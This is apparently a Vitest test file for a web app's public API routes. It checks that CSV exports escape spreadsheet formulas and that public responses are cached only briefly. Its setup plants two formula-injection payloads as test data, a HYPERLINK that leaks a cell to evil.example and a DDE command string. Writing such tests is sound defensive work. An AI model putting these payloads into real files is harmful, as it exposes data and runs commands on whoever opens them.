import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, sql } from 'drizzle-orm';
import * as s from '@/db/schema';
import { publishSnapshot } from '@/lib/dal/internal/publish';
import { createDatabase, DRIVERS, type TestDatabase } from '../support/databases';
import { batchWithResult } from '../support/disclosure-fixture';

/**
 * Public answers can stop being public (withheld after release) while their address stays the
 * same, so no shared cache may keep one for long: at most a minute, or revalidated every time.
 */
function expectBriefCache(header: string | null, what: string) {
  expect(header, `${what}: cache-control`).toBeTruthy();
  expect(header, what).not.toMatch(/immutable/);
  const maxAge = /(?:^|[\s,])(?:s-)?max-age=(\d+)/.exec(header!);
  if (maxAge) expect(Number(maxAge[1]), `${what}: ${header}`).toBeLessThanOrEqual(60);
  else expect(header, what).toMatch(/no-cache|no-store/);
}

describe.each(DRIVERS)('public route handlers on %s', (driver) => {
  let t: TestDatabase;
  let batchId: number;
  let documentId: number;

  beforeAll(async () => {
    t = await createDatabase(driver);
    const b = await batchWithResult(t.db, 'YQ-CSV', 'marker');
    batchId = b.batchId;
    // A new version of the result whose recipient name and reason a spreadsheet would run as formulas.
    const [pub] = await t.db.select().from(s.publications).where(eq(s.publications.id, b.publicationId));
    const content = pub!.content as { recipients: { name: string; adjustmentReason: string | null }[] };
    content.recipients[0]!.name = '=HYPERLINK("http://evil.example/?leak="&A1,"盂县")';
    content.recipients[1]!.adjustmentReason = '+cmd|\' /C calc\'!A0';
    await t.db.transaction((tx) =>
      publishSnapshot(tx, { kind: 'allocation_result', subjectType: 'batch', subjectId: batchId, title: pub!.title, content, notice: pub!.notice, changeReason: '测试', issuerOrgId: pub!.issuerOrgId, dataAsOf: '2026-02-03', eventAt: new Date() }),
    );
    const [doc] = await t.db
      .select({ id: sql<number>`(${s.publications.content}->>'documentId')::int` })
      .from(s.publications)
      .where(and(eq(s.publications.kind, 'management_rules')))
      .limit(1);
    documentId = Number(doc!.id);
    globalThis.__yqDatabase = Promise.resolve(t);
  });
  afterAll(async () => {
    globalThis.__yqDatabase = undefined;
    await t?.drop();
  });

  it('writes a published name starting with "=" into the CSV as text', async () => {
    const { GET } = await import('@/app/api/public/allocations/[batchId]/route');
    const res = await GET(new Request(`https://example.org/api/public/allocations/${batchId}?format=csv`), { params: Promise.resolve({ batchId: String(batchId) }) });
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""盂县"")"`);
    expect(text).toContain(`'+cmd|' /C calc'!A0`);
    // No cell anywhere begins with a formula character; amounts are bare numbers.
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+@-]/);
    expect(text.split('\r\n')[1]).toMatch(/,12345678,12345678,/);
  });

  it('never lets a shared cache keep a public document, allocation, feed or plan for long', async () => {
    const alloc = await import('@/app/api/public/allocations/[batchId]/route');
    const params = { params: Promise.resolve({ batchId: String(batchId) }) };
    const answers: [string, Response][] = [
      ['plan', await (await import('@/app/api/public/plan/route')).GET(new Request('https://example.org/api/public/plan'))],
      ['allocations', await (await import('@/app/api/public/allocations/route')).GET(new Request('https://example.org/api/public/allocations'))],
      ['allocation json', await alloc.GET(new Request(`https://example.org/api/public/allocations/${batchId}`), params)],
      ['allocation csv', await alloc.GET(new Request(`https://example.org/api/public/allocations/${batchId}?format=csv`), { params: Promise.resolve({ batchId: String(batchId) }) })],
      ['atom', await (await import('@/app/api/public/feed/atom/route')).GET(new Request('https://example.org/api/public/feed/atom'))],
      ['json feed', await (await import('@/app/api/public/feed/json/route')).GET(new Request('https://example.org/api/public/feed/json'))],
    ];
    for (const [what, res] of answers) {
      expect(res.status, what).toBe(200);
      expectBriefCache(res.headers.get('cache-control'), what);
    }
  });

  it('serves a published document for revalidation on every use: ETag, 304 when unchanged, no immutable', async () => {
    const { GET } = await import('@/app/api/public/documents/[id]/route');
    const params = () => ({ params: Promise.resolve({ id: String(documentId) }) });
    const res = await GET(new Request(`https://example.org/api/public/documents/${documentId}`), params());
    expect(res.status).toBe(200);
    expectBriefCache(res.headers.get('cache-control'), 'document');
    const etag = res.headers.get('etag');
    expect(etag).toBe(`"${res.headers.get('x-content-sha256')}"`);
    const again = await GET(new Request(`https://example.org/api/public/documents/${documentId}`, { headers: { 'if-none-match': etag! } }), params());
    expect(again.status).toBe(304);
    expect(await again.text()).toBe('');
    const missing = await GET(new Request('https://example.org/api/public/documents/999999'), { params: Promise.resolve({ id: '999999' }) });
    expect(missing.status).toBe(404);
    expect(missing.headers.get('cache-control')).toBe('no-store');
  });
});
